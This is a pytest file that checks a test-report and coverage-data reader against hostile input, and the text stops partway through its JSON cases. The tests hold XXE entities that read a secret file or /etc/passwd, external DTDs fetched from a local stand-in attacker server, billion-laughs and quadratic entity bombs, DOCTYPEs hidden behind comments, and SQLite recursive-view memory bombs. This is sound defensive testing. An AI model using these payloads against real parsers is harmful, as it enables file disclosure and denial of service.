"""Hostile reports against every reader: what gets past the first defences (a DOCTYPE hidden
from the entity check, encodings the check does not read, SQLite schemas coverage.py never
writes) and what a rejection says. Each input is either read correctly or refused with a
FormatError naming the file and the reason, in bounded memory and time, with nothing fetched
from the network or the disk."""

from __future__ import annotations

import gzip
import http.server
import io
import json
import os
import re
import sqlite3
import subprocess
import sys
import threading
import time
from pathlib import Path
import zipfile
from types import SimpleNamespace

import pytest

from crossbridge_assets.formats import FormatError, read_report
from crossbridge_assets_tests.conftest import FIXTURES, REPO
from crossbridge_assets_tests.test_formats_json_detection import _in_child


def _refused(path: Path, *words: str) -> str:
    with pytest.raises(FormatError) as err:
        read_report(path)
    assert err.value.path == str(path) and str(path) in str(err.value)
    for word in words:
        assert word in err.value.reason, err.value.reason
    return err.value.reason


# ---------------------------------------------------------------------------- coverage.py data


def _coverage_data(path: Path, lines: dict[str, list[int]]) -> Path:
    """A data file written by coverage.py itself (line measurement, no contexts)."""
    from coverage import CoverageData

    data = CoverageData(basename=str(path))
    data.add_lines(lines)
    data.write()
    return path


def _alter(path: Path, script: str) -> Path:
    db = sqlite3.connect(path)
    db.executescript(script)
    db.commit()
    db.close()
    return path


def test_coverage_data_file_is_read(tmp_path):
    path = _coverage_data(tmp_path / ".coverage", {"/src/app.py": [1, 2, 5]})
    spec, _stream, [fc] = read_report(path)
    assert spec.name == "coveragepy-data" and fc.lines == {1: 1, 2: 1, 5: 1}


_ENDLESS = "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n)"


@pytest.mark.parametrize(
    "script, reason",
    [
        # Each row selected from 'file' comes from a recursion that never ends: coverage.py's
        # SELECT ran until memory was gone.
        (f"ALTER TABLE file RENAME TO real_file; CREATE VIEW file AS {_ENDLESS} SELECT x AS id, 'p' || x AS path FROM n;",
         "it holds the view 'file'"),
        (f"DROP TABLE meta; CREATE VIEW meta AS {_ENDLESS} SELECT 'k' || x AS key, 'v' AS value FROM n;",
         "it holds the view 'meta'"),
        ("CREATE TRIGGER t AFTER INSERT ON meta BEGIN SELECT 1; END;", "it holds the trigger 't'"),
        ("DROP TABLE tracer; CREATE VIRTUAL TABLE tracer USING fts5(file_id, name);", "virtual table 'tracer'"),
        # A column computed on every read: 900 MB of zeros a row.
        ("ALTER TABLE line_bits RENAME TO old; CREATE TABLE line_bits (file_id integer, context_id integer,"
         " n integer, numbits blob GENERATED ALWAYS AS (zeroblob(n)) VIRTUAL);"
         " INSERT INTO line_bits (file_id, context_id, n) SELECT file_id, context_id, 900000000 FROM old; DROP TABLE old;",
         "its table 'line_bits' has a computed column"),
        # 4 MB of set bits: 32 million line numbers, each a Python int (MemoryError before).
        ("UPDATE line_bits SET numbits = CAST(replace(hex(zeroblob(4000000)), '00', 'FF') AS BLOB);",
         "no source file is longer than 1,048,576 lines"),
    ],
    ids=["endless-view-file", "endless-view-meta", "trigger", "virtual-table", "computed-column", "line-bits-bomb"],
)
def test_coverage_data_schema_coverage_never_writes_is_refused_in_bounded_memory(tmp_path, script, reason):
    path = _alter(_coverage_data(tmp_path / ".coverage", {"/src/app.py": [1, 2, 5]}), script)
    outcome = _in_child(str(path))
    assert outcome.get("error") == "FormatError" and outcome["path"] == str(path), outcome
    assert reason in outcome["reason"], outcome
    assert outcome["seconds"] < 10 and outcome["peak_kb"] < 200 * 1024, outcome


# ---------------------------------------------------------------------------- XML, every reader

# One small report a reader, as its tool writes it (trimmed): {decl} is the XML declaration,
# {dt} where a DOCTYPE goes, {ref} a place in an attribute (the test or file name), {txt} a
# place in text.
XML_SEEDS = {
    "junit": ("TEST-x.xml", '{decl}{dt}<testsuite name="s" tests="1"><testcase classname="c" name="t{ref}" time="1">'
              "<system-out>o{txt}</system-out></testcase></testsuite>"),
    "testng": ("testng-results.xml", '{decl}{dt}<testng-results><suite name="S"><test name="t"><class name="p.C">'
               '<test-method status="PASS" name="m{ref}" duration-ms="12" started-at="2023-01-01T00:00:00Z">'
               "<reporter-output><line>o{txt}</line></reporter-output></test-method></class></test></suite></testng-results>"),
    "nunit3": ("TestResult.xml", '{decl}{dt}<test-run id="2"><test-suite type="TestFixture" name="F" fullname="N.F">'
               '<test-case id="1" name="T{ref}" fullname="N.F.T" methodname="T" classname="N.F" result="Passed" '
               'duration="0.5"><output>o{txt}</output></test-case></test-suite></test-run>'),
    "nunit2": ("TestResult2.xml", '{decl}{dt}<test-results name="x.dll" total="1"><test-suite type="TestFixture" name="F">'
               '<results><test-case name="N.F.T{ref}" executed="True" result="Success" success="True" time="0.5">'
               "<reason><message>o{txt}</message></reason></test-case></results></test-suite></test-results>"),
    "xunit": ("xunit.xml", '{decl}{dt}<assemblies><assembly name="a.dll" time="1"><collection><test name="N.C.T{ref}" '
              'type="N.C" method="T" time="0.004" result="Pass"><output>o{txt}</output></test></collection>'
              "</assembly></assemblies>"),
    "trx": ("run.trx", '{decl}{dt}<TestRun xmlns="http://microsoft.com/schemas/VisualStudio/TeamTest/2010"><Results>'
            '<UnitTestResult testId="1" testName="T{ref}" outcome="Passed" duration="00:00:01.0"><Output>'
            "<StdOut>o{txt}</StdOut></Output></UnitTestResult></Results><TestDefinitions>"
            '<UnitTest id="1" name="T"><TestMethod className="N.C" name="T"/></UnitTest></TestDefinitions></TestRun>'),
    "robot": ("output.xml", '{decl}{dt}<robot generator="Robot 7.0"><suite id="s1" name="S" source="/s.robot">'
              '<test id="s1-t1" name="T{ref}" line="3"><status status="PASS" start="2024-01-01T00:00:00.000000" '
              'elapsed="1.5">o{txt}</status></test><status status="PASS" start="2024-01-01T00:00:00.000000" '
              'elapsed="2"/></suite></robot>'),
    "jacoco": ("jacoco.xml", '{decl}{dt}<report name="r"><sessioninfo id="s" start="1" dump="2"/>{txt}<package name="p">'
               '<sourcefile name="A{ref}.java"><line nr="1" mi="0" ci="1" mb="0" cb="0"/>'
               '<counter type="LINE" missed="0" covered="1"/></sourcefile></package></report>'),
    "cobertura": ("cobertura-coverage.xml", '{decl}{dt}<coverage line-rate="1" branch-rate="1" version="1"><sources>'
                  '<source>/src{txt}</source></sources><packages><package name="p"><classes><class name="a" '
                  'filename="a{ref}.js"><lines><line number="1" hits="1"/></lines></class></classes></package>'
                  "</packages></coverage>"),
    "coveragepy-xml": ("coverage.xml", '{decl}{dt}<coverage version="7.3.0" line-rate="1" branch-rate="1">'
                       "<!-- Generated by coverage.py: https://coverage.readthedocs.io/en/7.3.0 --><sources>"
                       '<source>/src{txt}</source></sources><packages><package name="p"><classes><class name="a.py" '
                       'filename="a{ref}.py"><methods/><lines><line number="1" hits="1"/></lines></class></classes>'
                       "</package></packages></coverage>"),
}
UTF8 = '<?xml version="1.0" encoding="UTF-8"?>\n'


def _xml(seed: str, decl: str = UTF8, dt: str = "", ref: str = "", txt: str = "") -> str:
    return XML_SEEDS[seed][1].format(decl=decl, dt=dt, ref=ref, txt=txt)


def _identity(records) -> list[str]:
    return [getattr(r, "name", None) or r.path for r in records]


class _Recorder(http.server.BaseHTTPRequestHandler):
    """Serves a DTD that would define entities reading the secret, and notes every request."""

    requests: list[str] = []
    secret_url = ""

    def do_GET(self):  # noqa: N802 - http.server's naming
        type(self).requests.append(self.path)
        body = f'<!ENTITY leak SYSTEM "{self.secret_url}"><!ENTITY % inner SYSTEM "{self.secret_url}">'.encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.fixture
def attacker(tmp_path):
    """A secret file and an HTTP server on 127.0.0.1 that records what it is asked for."""
    secret = tmp_path / "secret.txt"
    secret.write_text("S3CR3T-" + tmp_path.name)
    _Recorder.requests = []
    _Recorder.secret_url = secret.as_uri()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    try:
        yield SimpleNamespace(secret=secret.read_text(), file_url=secret.as_uri(),
                              http=f"http://127.0.0.1:{server.server_address[1]}", requests=_Recorder.requests)
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


def _lol(n: int = 9) -> str:
    return '<!ENTITY lol0 "lol">' + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, n + 1))


# Entity declarations hidden from a check that drops comments before processing instructions
# ('<?x <!-- ?>' is a PI to libxml2, then a declaration, then a comment), or behind a system
# literal that holds '<!--'.
_HIDERS = {
    "pi-then-comment": lambda decls: f"<!DOCTYPE r [<?x <!-- ?>{decls}<!-- -->]>",
    "literal-then-comment": lambda decls: f'<!DOCTYPE r SYSTEM "<!--" [{decls}<!-- -->]>',
    "literal-with-pi": lambda decls: f"<!DOCTYPE r [<!ATTLIST r a CDATA '<?'>{decls}<!ATTLIST r b CDATA '?>'>]>",
}


def _hidden_attacks(a) -> dict[str, tuple[str, str, str]]:
    """name -> (declarations, reference in an attribute, reference in text)."""
    return {
        "internal": ('<!ENTITY i "INTERNAL">', "&i;", "&i;"),
        "file-in-text": (f'<!ENTITY e SYSTEM "{a.file_url}">', "", "&e;"),
        "http-in-text": (f'<!ENTITY e SYSTEM "{a.http}/e.txt">', "", "&e;"),
        "parameter-http": (f'<!ENTITY % p SYSTEM "{a.http}/evil.dtd"> %p;', "", "&leak;"),
        "billion-laughs": (_lol(), "&lol9;", "&lol9;"),
        "quadratic": ('<!ENTITY a "' + "x" * 50_000 + '">', "&a;" * 2000, "&a;" * 2000),
    }


@pytest.mark.parametrize("hider", sorted(_HIDERS))
@pytest.mark.parametrize("seed", sorted(XML_SEEDS))
def test_entity_declarations_hidden_behind_comments_and_literals_are_refused(tmp_path, attacker, seed, hider):
    """Before, the check took the comment for one and passed the declarations; libxml2 then
    expanded an internal entity into a test's name, and kept '&e;' in its output."""
    for name, (decls, ref, txt) in _hidden_attacks(attacker).items():
        path = tmp_path / f"{name}-{XML_SEEDS[seed][0]}"
        path.write_text(_xml(seed, dt=_HIDERS[hider](decls), ref=ref, txt=txt))
        reason = _refused(path, "refused: the DOCTYPE declares the")
        assert attacker.secret not in reason
    assert attacker.requests == []


@pytest.mark.parametrize("seed", sorted(XML_SEEDS))
def test_an_encoding_python_does_not_know_is_refused(tmp_path, attacker, seed):
    """libxml2 knows iconv's aliases of UTF-7 ('CSUNICODE11UTF7'): a DOCTYPE written in it
    ('+ADw-' is '<') was invisible to the check, and the size limits were lifted too."""
    decls = f'<!ENTITY e SYSTEM "{attacker.file_url}">{_lol()}'
    doctype = f"<!DOCTYPE r [{decls}]>".encode("utf-7").replace(b"<", b"+ADw-").replace(b"!", b"+ACE-")
    text = _xml(seed, decl='<?xml version="1.0" encoding="CSUNICODE11UTF7"?>\n', txt="&e;&lol9;").encode()
    path = tmp_path / XML_SEEDS[seed][0]
    path.write_bytes(text.replace(b"\n<", b"\n" + doctype + b"<", 1))
    _refused(path, "refused: the declared encoding 'CSUNICODE11UTF7' is not one reports are read in")
    path.write_bytes(_xml(seed, decl='<?xml version="1.0" encoding="X-NOT-AN-ENCODING"?>\n').encode())
    _refused(path, "the declared encoding 'X-NOT-AN-ENCODING'")
    assert attacker.requests == []


@pytest.mark.parametrize("seed", sorted(XML_SEEDS))
def test_utf32_reports(tmp_path, seed):
    """libxml2 reads UTF-32 without a byte order mark: so do the checks, which saw no DOCTYPE
    in it before (and detection missed a big-endian one); with the mark libxml2 fails."""
    expected = _identity(read_report(_write(tmp_path / "utf8.xml", _xml(seed, ref="\u00e9").encode()))[2])
    decl = '<?xml version="1.0" encoding="UTF-32"?>\n'
    for codec in ("utf-32-le", "utf-32-be"):
        path = _write(tmp_path / f"{codec}-{XML_SEEDS[seed][0]}", _xml(seed, decl=decl, ref="\u00e9").encode(codec))
        assert _identity(read_report(path)[2]) == expected
        path.write_bytes(_xml(seed, decl=decl, dt=f"<!DOCTYPE r [{_lol()}]>", ref="&lol9;").encode(codec))
        _refused(path, "refused: the DOCTYPE declares the entity 'lol0'")
    path = _write(tmp_path / f"bom-{XML_SEEDS[seed][0]}", _xml(seed, decl=decl).encode("utf-32"))
    _refused(path, "UTF-32 with a byte order mark")
    path.write_bytes('{"a": 1}'.encode("utf-32"))
    _refused(path, "the file is UTF-32 text: only XML reports are read in UTF-32")


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def test_a_report_nested_deeper_than_256_levels_is_read(tmp_path):
    """The reader lifts libxml2's limits for a document without a DOCTYPE (up to 2048 levels);
    detection kept them, and refused such a report at 256."""
    suites = "".join(f'<testsuite name="level{i}">' for i in range(300))
    path = _write(tmp_path / "TEST-deep.xml", (UTF8 + suites + '<testcase classname="c" name="deepest"/>'
                                               + "</testsuite>" * 300).encode())
    [case] = read_report(path)[2]
    assert case.name == "deepest"
    path.write_bytes(_xml("junit", txt="<a>" * 100_000 + "</a>" * 100_000).encode())
    _refused(path, "malformed XML: elements nested deeper than 2048 levels")


N = 2000  # under libxml2's 2048 levels: what detection now lets through to the readers
_RUN = '<status status="PASS" start="2024-01-01T00:00:00.000000" elapsed="1.5"/>'
DEEP = {
    "junit": ("<testsuites>" + '<testsuite name="s">' * N + '<testcase classname="c" name="t" time="1"/>'
              + "</testsuite>" * N + "</testsuites>", ["t"]),
    "nunit3": ('<test-run id="2">' + '<test-suite type="TestSuite" name="S" fullname="S">' * N
               + '<test-case id="1" name="T" fullname="N.F.T" methodname="T" classname="N.F" result="Passed"/>'
               + "</test-suite>" * N + "</test-run>", ["T"]),
    "nunit2": ('<test-results name="x.dll" total="1">' + '<test-suite type="Namespace" name="F"><results>' * (N // 2)
               + '<test-case name="N.F.T" executed="True" result="Success" success="True" time="0.5"/>'
               + "</results></test-suite>" * (N // 2) + "</test-results>", ["T"]),
    "robot-suites": ('<robot generator="Robot 7.0">' + '<suite id="s1" name="S" source="/s.robot">' * N
                     + f'<test id="s1-t1" name="T" line="3">{_RUN}</test>' + f"{_RUN}</suite>" * N + "</robot>", ["T"]),
    "robot-keywords": ('<robot generator="Robot 7.0"><suite id="s1" name="S" source="/s.robot"><test id="s1-t1" name="T">'
                       + '<kw name="K">' * N + _RUN + "</kw>" * N + f"{_RUN}</test>{_RUN}</suite></robot>", ["T"]),
    "trx": ('<TestRun xmlns="http://microsoft.com/schemas/VisualStudio/TeamTest/2010"><Results>'
            + '<TestResultAggregation testId="1" testName="T" outcome="Passed"><InnerResults>' * (N // 2)
            + '<UnitTestResult testId="2" testName="U" outcome="Passed"/>' + "</InnerResults></TestResultAggregation>" * (N // 2)
            + '</Results><TestDefinitions><OrderedTest id="1" name="T"/><UnitTest id="2" name="U">'
            '<TestMethod className="N.C" name="U"/></UnitTest></TestDefinitions></TestRun>', ["T"]),
    "jacoco": ('<report name="r"><sessioninfo id="s" start="1" dump="2"/>' + '<group name="g">' * N
               + '<package name="p"><sourcefile name="A.java"><line nr="1" mi="0" ci="1" mb="0" cb="0"/></sourcefile></package>'
               + "</group>" * N + "</report>", ["p/A.java"]),
    "junit-failure-markup": ('<testsuite name="s"><testcase classname="c" name="t"><failure message="m">' + "<x>" * N + "m"
                             + "</x>" * N + "</failure></testcase></testsuite>", ["t"]),
}


@pytest.mark.parametrize("shape", sorted(DEEP))
def test_each_reader_reads_its_own_elements_nested_2000_deep(tmp_path, shape):
    """Suites in suites, keywords in keywords, ordered tests in ordered tests, groups in groups:
    read without recursion errors, in a few seconds at most."""
    text, names = DEEP[shape]
    path = _write(tmp_path / f"{shape}.xml", (UTF8 + text).encode())
    started = time.perf_counter()
    assert _identity(read_report(path)[2]) == names
    assert time.perf_counter() - started < 5


@pytest.mark.parametrize("seed", sorted(XML_SEEDS))
def test_a_root_element_longer_than_the_detection_head_is_named_as_the_reason(tmp_path, seed):
    """Detection reads 256 KiB: a root start tag longer than that was 'content of an unknown
    format'."""
    text = _xml(seed)
    name_end = re.compile(r"<[^\s>/?!]+").search(text, len(UTF8)).end()
    path = _write(tmp_path / XML_SEEDS[seed][0], (text[:name_end] + "".join(f' x{i}="{i}"' for i in range(30_000))
                                                  + text[name_end:]).encode())
    _refused(path, "XML whose first element does not end within its first 256 KiB")


@pytest.mark.parametrize("seed", sorted(XML_SEEDS))
def test_an_undefined_entity_is_named_as_the_reason(tmp_path, seed):
    """lxml says 'no element found' when libxml2 stopped inside the first element: the reason
    is libxml2's, in the parser's error log."""
    path = _write(tmp_path / XML_SEEDS[seed][0], _xml(seed, ref="&nope;").encode())
    _refused(path, "malformed XML: Entity 'nope' not defined (line 2, column")


# ---------------------------------------------------------------------------- the XML matrix

_XI = "http://www.w3.org/2001/XInclude"


def _xml_attacks(a) -> dict[str, tuple[bytes, str]]:
    """name -> (the parts of a report of the seed, expected outcome): 'read' (the same tests or
    files as the plain report) or the words of the refusal."""
    lol = f"<!DOCTYPE r [{_lol()}]>"
    return {
        "xxe-file": (dict(dt=f'<!DOCTYPE r [<!ENTITY e SYSTEM "{a.file_url}">]>', ref="&e;", txt="&e;"),
                     "refused: the DOCTYPE declares the entity 'e'"),
        "xxe-http": (dict(dt=f'<!DOCTYPE r [<!ENTITY e SYSTEM "{a.http}/e.txt">]>', ref="&e;", txt="&e;"),
                     "refused: the DOCTYPE declares the entity 'e'"),
        "parameter-entity-http": (dict(dt=f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{a.http}/evil.dtd"> %p;]>', txt="&leak;"),
                                  "refused: the DOCTYPE declares the parameter entity 'p'"),
        "parameter-entity-file": (dict(dt=f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{a.file_url}"> %p;]>'),
                                  "refused: the DOCTYPE declares the parameter entity 'p'"),
        "billion-laughs": (dict(dt=lol, ref="&lol9;", txt="&lol9;"), "refused: the DOCTYPE declares the entity 'lol0'"),
        "quadratic": (dict(dt='<!DOCTYPE r [<!ENTITY a "' + "x" * 50_000 + '">]>', ref="&a;" * 2000),
                      "refused: the DOCTYPE declares the entity 'a'"),
        # Named, never loaded: load_dtd=False, no_network=True.
        "external-dtd": (dict(dt=f'<!DOCTYPE r SYSTEM "{a.http}/evil.dtd">'), "read"),
        "external-dtd-public": (dict(dt=f'<!DOCTYPE r PUBLIC "-//X//DTD R//EN" "{a.http}/evil.dtd">'), "read"),
        "external-dtd-file": (dict(dt=f'<!DOCTYPE r SYSTEM "{a.file_url}">'), "read"),
        # XInclude is never processed: the element is one the reader does not know.
        "xinclude": (dict(txt=f'<xi:include xmlns:xi="{_XI}" href="{a.file_url}" parse="text"/>'
                              f'<xi:include xmlns:xi="{_XI}" href="{a.http}/x.xml"/>'), "read"),
        "xml-stylesheet": (dict(decl=UTF8 + f'<?xml-stylesheet type="text/xsl" href="{a.http}/s.xsl"?>\n'), "read"),
        "cdata": (dict(txt=f'<![CDATA[<!DOCTYPE x [<!ENTITY e SYSTEM "{a.file_url}">]>&e;]]]]><![CDATA[></x>]]>'), "read"),
        "no-declaration": (dict(decl=""), "read"),
        "undefined-entity": (dict(ref="&nope;"), "malformed XML: Entity 'nope' not defined"),
        "nul-byte": (dict(ref="\x00"), "malformed XML: invalid character in attribute value"),
        "nul-character-reference": (dict(ref="&#0;"), "malformed XML: xmlParseCharRef: invalid xmlChar value 0"),
        "deep-100k": (dict(txt="<a>" * 100_000 + "</a>" * 100_000), "malformed XML: elements nested deeper than 2048 levels"),
    }


def _xml_encodings(seed: str) -> dict[str, tuple[bytes, str]]:
    decl16 = '<?xml version="1.0" encoding="UTF-16"?>\n'
    return {
        "utf-16-bom": (_xml(seed, decl=decl16, ref="\u00e9").encode("utf-16"), "read-accented"),
        "utf-16le-declared": (_xml(seed, decl=decl16, ref="\u00e9").encode("utf-16-le"), "read-accented"),
        "utf-16be-declared": (_xml(seed, decl=decl16, ref="\u00e9").encode("utf-16-be"), "read-accented"),
        "utf-16-bom-undeclared": (_xml(seed, decl="", ref="\u00e9").encode("utf-16"), "read-accented"),
        "utf-8-bom": (b"\xef\xbb\xbf" + _xml(seed, ref="\u00e9").encode(), "read-accented"),
        # The bytes win over a declaration that lies about them, when a byte order mark says so;
        # otherwise the declaration is believed.
        "utf-16-bom-declared-utf-8": (_xml(seed, ref="\u00e9").encode("utf-16"), "read-accented"),
        "latin-1-declared-utf-8": (_xml(seed, ref="\u00e9").encode("latin-1"),
                                   "malformed XML: Invalid bytes in character encoding"),
        "utf-8-declared-latin-1": (_xml(seed, decl='<?xml version="1.0" encoding="ISO-8859-1"?>\n', ref="\u00e9").encode(),
                                   "read-as-latin1"),
        "utf-8-declared-utf-16": (_xml(seed, decl=decl16).encode(), "malformed XML"),
        "invalid-utf-8-in-a-name": (_xml(seed, ref="\udcff").encode("utf-8", "surrogateescape"),
                                    "malformed XML: Invalid bytes in character encoding"),
        "overlong-utf-8": (_xml(seed, ref="\udcc0\udcbc").encode("utf-8", "surrogateescape"),
                           "malformed XML: Invalid bytes in character encoding"),
        "truncated-upload": (_xml(seed).encode()[:-25], "malformed XML"),
        "gzip-named-xml": (gzip.compress(_xml(seed).encode()), "unknown format: the file is gzip-compressed, not a report"),
        "zip-named-xml": (_zipped(_xml(seed)), "unknown format: the file is a zip archive, not a report"),
        "empty": (b"", "the file is empty"),
        "byte-order-mark-only": (b"\xef\xbb\xbf\n", "the file is empty"),
        "binary": (bytes(range(256)) * 8, "unknown format"),
    }


def _zipped(text: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("report.xml", text)
    return out.getvalue()


@pytest.mark.parametrize("seed", sorted(XML_SEEDS))
def test_xml_attack_matrix(tmp_path, attacker, seed):
    """Every XML reader against the same attacks and damaged files: each is read as the plain
    report is, or refused naming the file and the reason; nothing is fetched or disclosed."""
    name = XML_SEEDS[seed][0]
    plain = _identity(read_report(_write(tmp_path / f"plain-{name}", _xml(seed).encode()))[2])
    accented = _identity(read_report(_write(tmp_path / f"accented-{name}", _xml(seed, ref="\u00e9").encode()))[2])
    expected = {"read": plain, "read-accented": accented,
                "read-as-latin1": [n.replace("\u00e9", "\u00c3\u00a9") for n in accented]}
    cases = {k: (_xml(seed, **parts).encode(), want) for k, (parts, want) in _xml_attacks(attacker).items()}
    cases.update(_xml_encodings(seed))
    unexpected = {}
    for case, (data, want) in cases.items():
        path = _write(tmp_path / f"{case}-{name}", data)
        try:
            _spec, stream, records = read_report(path)
        except FormatError as exc:
            assert exc.path == str(path) and attacker.secret not in str(exc)
            if want in expected or want not in exc.reason:
                unexpected[case] = exc.reason
            continue
        assert attacker.secret not in repr(records) + repr(stream.info)
        if _identity(records) != expected.get(want):
            unexpected[case] = f"read as {_identity(records)}"
    assert unexpected == {}
    assert attacker.requests == []


_BOMB_CHILD = r"""
import json, resource, sys, time
resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
from crossbridge_assets.formats import FormatError, _xml, read_report
if sys.argv[2] == "parser-alone":  # the DOCTYPE check off: libxml2's settings must hold alone
    _xml.check_prolog = lambda path, head: False
start = time.perf_counter()
try:
    spec, stream, records = read_report(sys.argv[1])
    outcome = {"read": repr(records)[:2000]}
except FormatError as exc:
    outcome = {"error": "FormatError", "path": exc.path, "reason": exc.reason}
except MemoryError:
    outcome = {"error": "MemoryError"}
outcome["seconds"] = time.perf_counter() - start
with open("/proc/self/status") as fh:
    outcome["peak_kb"] = next(int(line.split()[1]) for line in fh if line.startswith("VmHWM:"))
print(json.dumps(outcome))
"""


def _bomb_in_child(path: Path, mode: str) -> dict:
    done = subprocess.run([sys.executable, "-c", _BOMB_CHILD, str(path), mode], cwd=REPO,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr[-2000:]
    return json.loads(done.stdout.strip().splitlines()[-1])


@pytest.mark.parametrize("mode", ["checked", "parser-alone"])
@pytest.mark.parametrize("seed", sorted(XML_SEEDS))
def test_entity_bombs_stay_small(tmp_path, seed, mode):
    """Billion laughs (in an attribute and in text) and the quadratic blowup (one 50 KB entity
    referenced thousands of times), under a 1 GB address-space cap: refused by the DOCTYPE
    check, and with the check off, by libxml2's amplification limit or left unexpanded."""
    bombs = {
        "laughs-attribute": dict(dt=f"<!DOCTYPE r [{_lol()}]>", ref="&lol9;"),
        "laughs-text": dict(dt=f"<!DOCTYPE r [{_lol()}]>", txt="&lol9;" * 100),
        "quadratic": dict(dt='<!DOCTYPE r [<!ENTITY a "' + "x" * 50_000 + '">]>', ref="&a;" * 5000, txt="&a;" * 5000),
    }
    for bomb, parts in bombs.items():
        path = _write(tmp_path / f"{bomb}-{XML_SEEDS[seed][0]}", _xml(seed, **parts).encode())
        outcome = _bomb_in_child(path, mode)
        assert outcome["peak_kb"] < 150 * 1024 and outcome["seconds"] < 10, (bomb, outcome)
        if mode == "checked":
            assert outcome.get("error") == "FormatError" and outcome["path"] == str(path), (bomb, outcome)
            assert "refused: the DOCTYPE declares the entity" in outcome["reason"], (bomb, outcome)
        elif "error" in outcome:
            assert outcome["error"] == "FormatError" and outcome["path"] == str(path), (bomb, outcome)
        else:
            assert "lollol" not in outcome["read"] and "xxxxxxxxxx" not in outcome["read"], (bomb, outcome)


# ---------------------------------------------------------------------------- the CLI


def test_cli_parse_names_the_file_and_the_reason_of_each_hostile_report(tmp_path, capsys):
    from crossbridge_assets_tests.test_cli import run_cli

    hidden = _HIDERS["pi-then-comment"]('<!ENTITY e SYSTEM "file:///etc/passwd">')
    coverage = _alter(_coverage_data(tmp_path / ".coverage", {"/src/app.py": [1]}),
                      f"DROP TABLE meta; CREATE VIEW meta AS {_ENDLESS} SELECT 'k' || x AS key, 'v' AS value FROM n;")
    cases = {
        _write(tmp_path / "TEST-hidden.xml", _xml("junit", dt=hidden, txt="&e;").encode()): "declares the entity 'e'",
        _write(tmp_path / "output.xml", gzip.compress(_xml("robot").encode())): "the file is gzip-compressed",
        _write(tmp_path / "coverage.xml", _zipped(_xml("cobertura"))): "the file is a zip archive",
        _write(tmp_path / "TEST-16.xml", _xml("junit", decl='<?xml version="1.0"?>').encode("utf-32")): "UTF-32 with a byte order mark",
        _write(tmp_path / "results.trx", _xml("trx", ref="&nope;").encode()): "Entity 'nope' not defined",
        coverage: "it holds the view 'meta'",
    }
    for path, reason in cases.items():
        code, out, err = run_cli(capsys, "parse", "--json", str(path))
        assert (code, out) == (2, ""), err
        [line] = err.strip().splitlines()
        assert str(path) in line and reason in line and "could not be parsed" not in line, line


# ---------------------------------------------------------------------------- the JSON matrix

# Reports written by the tools (committed fixtures), one a JSON reader.
JSON_SEEDS = {
    "playwright-json": "results/js/playwright-tags.json",
    "mocha-json": "results/round2/js/mocha-retries.json",
    "mochawesome": "results/js/mochawesome.json",
    "cucumber-json": "results/js/cucumber.json",
    "pytest-json-report": "results/tags/pytest-json-report.json",
    "ctrf": "results/js/ctrf-tags.json",
    "istanbul-final": "coverage/js/coverage-final.json",
    "istanbul-summary": "coverage/js/coverage-summary.json",
    "coveragepy-json": "coverage/python/coverage-7.3.json",
}


def _numbers_as(value, literal: str) -> str:
    """The JSON text of `value` with every number written as `literal`."""
    def walk(v):
        if isinstance(v, bool) or v is None:
            return v
        if isinstance(v, (int, float)):
            return "\x00N\x00"
        if isinstance(v, list):
            return [walk(x) for x in v]
        if isinstance(v, dict):
            return {k: walk(x) for k, x in v.items()}
        return v
    return json.dumps(walk(value)).replace('"\\u0000N\\u0000"', literal)


def _strings_as(value, change) -> str:
    def walk(v):
        if isinstance(v, str):
            return change(v)
        if isinstance(v, list):
            return [walk(x) for x in v]
        if isinstance(v, dict):
            return {k: walk(x) for k, x in v.items()}
        return v
    return json.dumps(walk(value))


def _with_duplicates(value) -> str:
    """Every key written twice, null first: JSON.parse and Python keep the last."""
    if isinstance(value, dict):
        return "{" + ", ".join(f"{json.dumps(k)}: null, {json.dumps(k)}: {_with_duplicates(v)}" for k, v in value.items()) + "}"
    if isinstance(value, list):
        return "[" + ", ".join(_with_duplicates(v) for v in value) + "]"
    return json.dumps(value)


def _json_cases(text: str) -> dict[str, tuple[bytes, str | None]]:
    """name -> (bytes, the words of the refusal, 'same' for the plain report's records, or None
    for either a read or a refusal)."""
    value = json.loads(text)
    compact = json.dumps(value)
    first_colon = compact.index(": ") + 2
    return {
        "twenty-digit-integers": (_numbers_as(value, "99999999999999999999").encode(), "a number beyond 64-bit integers and doubles"),
        "1e400": (_numbers_as(value, "1e400").encode(), "a number beyond 64-bit integers and doubles"),
        "NaN": (_numbers_as(value, "NaN").encode(), "(NaN and Infinity are not JSON numbers)"),
        "-Infinity": (_numbers_as(value, "-Infinity").encode(), "malformed JSON"),
        "byte-order-mark": (b"\xef\xbb\xbf" + text.encode(), "same"),
        "utf-16": (text.encode("utf-16"), "same"),
        "utf-32": (text.encode("utf-32"), "the file is UTF-32 text"),
        "utf-16le-without-bom": (text.encode("utf-16-le"), "the file is UTF-16 text without a byte order mark"),
        "utf-16be-without-bom": (text.encode("utf-16-be"), "the file is UTF-16 text without a byte order mark"),
        "duplicate-keys": (_with_duplicates(value).encode(), None),
        "escaped-nul-in-strings": (_strings_as(value, lambda s: s + "\x00").encode(), None),
        "invalid-utf-8": (_strings_as(value, lambda s: s + "\x00").replace("\\u0000", "\udcff").encode("utf-8", "surrogateescape"),
                          "malformed JSON"),
        "ndjson": ((compact + "\n" + compact + "\n").encode(), None),
        "two-documents": ((compact + compact).encode(), "malformed JSON: parse error: trailing garbage"),
        "truncated": (text.encode()[: len(text) // 2], "malformed JSON"),
        "deep-arrays": ((compact[:first_colon] + "[" * 100_000 + "]" * 100_000 + ', "x": ' + compact[first_colon:]).encode(),
                        "JSON nested deeper than 512 levels"),
        "deep-objects": ((compact[:first_colon] + '{"a": ' * 100_000 + "1" + "}" * 100_000 + ', "x": '
                          + compact[first_colon:]).encode(), "JSON nested deeper than 512 levels"),
